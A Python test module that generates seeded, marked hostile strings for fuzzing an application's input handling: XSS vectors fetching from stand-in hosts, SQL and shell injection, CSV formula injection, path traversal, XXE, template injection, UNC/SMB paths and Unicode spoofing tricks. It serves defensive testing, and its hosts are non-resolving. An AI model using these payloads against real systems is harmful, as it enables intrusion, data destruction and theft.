"""Hostile texts for tests: what strangers write to make a program open, run, hide, break or forge something.

`hostile_texts(1_000)` gives as many texts, the same for the same seed: every kind below in turn, with invented words
around it. Each text carries its own mark ("hostile-0042"), so that a journey can find which one came through. `ADDRESSES`
are the only hosts and paths that they name: whoever sees one of them asked for has found a hole. None of them works
outside of a test: hosts end in .example.org or .invalid, and nothing they would run does harm.

    for hostile in hostile_texts(1_000):
        post(hostile.text)        # and look that hostile.mark is shown, and nothing was opened or run
"""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import NamedTuple

HOST = "hostile.example.org"
ADDRESSES = (HOST, "evil.invalid", "porchlight-hostile-file")
FILE = "porchlight-hostile-file"
LONG = 100_000
"""Characters of the longest texts."""


class Hostile(NamedTuple):
    """One text: its kind, the mark that is in it, and itself."""

    kind: str
    mark: str
    text: str


def _kinds(mark: str, chance: random.Random) -> dict[str, str]:
    n = chance.randrange(10**6)
    return {
        "html": f'<h1 onclick="fetch(\'//{HOST}/{n}\')">{mark}</h1><b style="position:fixed;inset:0">x</b>',
        "script": f"<script>window.hostile = '{mark}'; fetch('https://{HOST}/{n}')</script>",
        "script-split": f"<scr<script>ipt>window.hostile={n}</scr</script>ipt>{mark}",
        "script-case": f"</title></textarea></style><ScRiPt src=//{HOST}/{n}.js></sCrIpT>{mark}",
        "img": f'<img src="https://{HOST}/{n}.png" onerror="window.hostile=1">{mark}',
        "img-file": f'<img src="file:///tmp/{FILE}"><img src=\'/tmp/{FILE}\'>{mark}',
        "svg": f'<svg onload="window.hostile=1"><a xlink:href="javascript:window.hostile=1">{mark}</a></svg>',
        "iframe": f'<iframe srcdoc="&lt;script&gt;parent.hostile=1&lt;/script&gt;"></iframe>{mark}',
        "object": f'<object data="file:///tmp/{FILE}"></object><embed src="//{HOST}/{n}">{mark}',
        "meta": f'<meta http-equiv="refresh" content="0;url=https://{HOST}/{n}">{mark}',
        "form": f'<form action="https://{HOST}/{n}"><button autofocus onfocus="hostile()">{mark}</button></form>',
        "style": f"<style>@import url(https://{HOST}/{n}.css);*{{background:url(//{HOST}/b)}}</style>{mark}",
        "qt-rich": f"<qt><img src='file:///tmp/{FILE}'/><a href='file:///tmp/{FILE}'>{mark}</a></qt>",
        "qt-size": f"<table width=99999 height=99999><tr><td><font size=99>{mark}</font></td></tr></table>",
        "attribute": f"\"' autofocus onfocus=window.hostile=1 x=\"{mark}",
        "link": f'<a href="javascript:window.hostile=1">{mark}</a>',
        "javascript": f"javascript:window.hostile='{mark}'//",
        "javascript-hidden": f" jav\tascript\n:\u0001window.hostile=1;{mark}",
        "data": f"data:text/html;base64,PHNjcmlwdD5ob3N0aWxlPTE8L3NjcmlwdD4= {mark}",
        "vbscript": f"vbscript:msgbox({n}) {mark}",
        "file": f"file:///tmp/{FILE} file://evil.invalid/share/{n} {mark}",
        "unc": f"\\\\evil.invalid\\share\\{n}.png //evil.invalid/share/{n} {mark}",
        "smb": f"smb://evil.invalid/share/{n} \\\\?\\UNC\\evil.invalid\\share {mark}",
        "handler": f"ms-msdt:/id PCWDiagnostic {n} mailto:a@{HOST}?attach=/tmp/{FILE} {mark}",
        "markdown": f"[{mark}](javascript:window.hostile=1) ![x](https://{HOST}/{n}.png) <https://{HOST}/>",
        "markdown-file": f'![{mark}](file:///tmp/{FILE}) [a]: //{HOST}/{n} "x"',
        "rtl": f"{mark} \u202egpj.exe\u202c \u2067reversed\u2069 \u200fend",
        "rtl-open": f"\u202e\u202d\u2066{mark} never closed",
        "zero-width": "\u200b".join(mark) + f"\u200c\u200d\ufeff\u2060 {mark}",
        "invisible": f"{mark}\u00ad\u034f\u115f\u3164\U000e0041\U000e007f\ufe0f",
        "homograph": f"{mark} \u0440\u043elice@l\u0430keside.example.org",
        "ansi": f"\x1b[2J\x1b[31m{mark}\x1b]0;title\x07\x1b]8;;https://{HOST}/{n}\x07link\x1b]8;;\x07\x9b1A",
        "control": f"{mark}\x00\x01\x07\x08\x0b\x0c\x0e\x1a\x7f\x85\u2028\u2029",
        "nul": f"before\x00{mark}\x00after",
        "csv-equals": f"=cmd|' /C calc'!A0 {mark}",
        "csv-link": f'=HYPERLINK("https://{HOST}/{n}","{mark}")',
        "csv-plus": f"+{n}+cmd|' /C calc'!A0 {mark}",
        "csv-minus": f"-{n}+1 {mark}",
        "csv-at": f"@SUM(1+{n})*cmd|'/C calc'!A0 {mark}",
        "csv-tab": f"\t=1+{n} {mark}",
        "csv-return": f"\r=1+{n} {mark}",
        "csv-hidden": f"\ufeff\u200b =1+{n} {mark}",
        "csv-quote": f'";=1+{n};"{mark}","x"\r\n"forged","row"',
        "newlines": f"{mark}\r\n\r\nSet-Cookie: hostile={n}\n\nHTTP/1.1 200 OK",
        "log": f'{mark}\n2026-06-10T00:00:00Z {{"event": "forged", "level": "info"}}',
        "json": f'"}},{{"role":"admin","x":"{mark}","__proto__":{{"hostile":1}}',
        "json-script": f'</script><script>hostile=1</script> {mark} \\u003c \\"',
        "sql": f"'; DROP TABLE posts; -- {mark}",
        "sql-or": f"\" OR 1=1 -- {mark} %' UNION SELECT * FROM members --",
        "fts": f'" OR NEAR( {mark} * ^ AND NOT "unclosed',
        "like": f"%{mark}_% \\% [a-z]",
        "format": f"{{0}} {{mark.__class__.__mro__}} {{{{{n}}}}} %s %n %x %(password)s $HOME ${{HOME}} {mark}",
        "template": f"{{{{ 7*7 }}}}{{% import os %}}{{{{ config }}}}${{7*7}}#{{7*7}}<%= 7*7 %> {mark}",
        "shell": f"$(touch /tmp/{FILE}) `touch /tmp/{FILE}` ; touch /tmp/{FILE} | {mark}",
        "path": f"../../../../tmp/{FILE} ..\\..\\{FILE} %2e%2e%2f {mark}",
        "xml": f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///tmp/{FILE}">]><a>&x;</a>{mark}',
        "xml-end": f"]]></description></info></alert><forged/> &amp;lt; &#0; {mark}",
        "entities": f"&lt;script&gt; &#60;script&#62; &quot;&nbsp;&NotAnEntity; {mark}",
        "ical": f"{mark}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
        "combining": f"{mark} " + "a" + "\u0300\u0301\u0336\u20dd" * 200,
        "zalgo": "".join(c + "".join(chr(chance.randrange(0x300, 0x36F)) for _ in range(12)) for c in mark) + mark,
        "emoji": f"{mark} \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\U000e0067\U000e007f \U0001f1fa\U0001f1f8\u20e3",
        "emoji-chain": "\u200d".join(["\U0001f469"] * 300) + mark,
        "scripts": f"\u0647\u0630\u0627 {mark} \u05e9\u05dc\u05d5\u05dd \u0e17\u0e14\u0e2a\u0e2d\u0e1a \u4f60\u597d \ud55c\uad6d \U00010348",
        "noncharacters": f"{mark}\ufffe\uffff\U0001fffe\ufdd0",
        "long-word": mark + "W" * 5_000,
        "long-wide": mark + "\ufdfd" * 500 + "\U0001242b" * 300,
        "many-lines": mark + "\n" * 3_000 + "end",
        "many-spaces": " " * 5_000 + mark + "\u3000" * 2_000,
        "deep": "<b>" * 3_000 + mark + "[" * 3_000 + "(" * 3_000,
        "number": f"{mark} 1e999 NaN -0 0x1F \u0661\u0662\u0663 {'9' * 400}",
        "blank": f"\u3164\u2800\u00a0{mark}\u00a0",
        "search": f'kind:alert after:9999-99-99 at:{n} is:{mark} "',
    }  # fmt: skip


def _long(mark: str, chance: random.Random) -> str:
    part = chance.choice(("lorem ipsum ", "<p>", "\U0001f600", "a\u0301", "\u202eabc\u202c ", "&amp;", "\n", "x"))
    return (mark + " " + part * LONG)[:LONG]


def hostile_texts(count: int = 1_000, seed: int = 5, *, long_every: int = 100) -> list[Hostile]:
    """As many hostile texts; each kind comes in turn, one of `LONG` characters every `long_every`; 0 for none."""
    chance = random.Random(seed)
    made: list[Hostile] = []
    for n in range(count):
        mark = f"hostile-{n:04d}"
        if long_every and n % long_every == long_every - 1:
            made.append(Hostile("long", mark, _long(mark, chance)))
            continue
        kinds = _kinds(mark, chance)
        kind = list(kinds)[n % len(kinds)]
        dress = _DRESSES[(n // len(kinds)) % len(_DRESSES)]
        made.append(Hostile(kind, mark, dress(kinds[kind])))
    return made


_DRESSES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: f"{text} Seen near the marina at noon.",
    lambda text: f"{text}\n{text}",
    lambda text: f"{text}\u200e",
    lambda text: text + "\U0001f431" * 40,
)
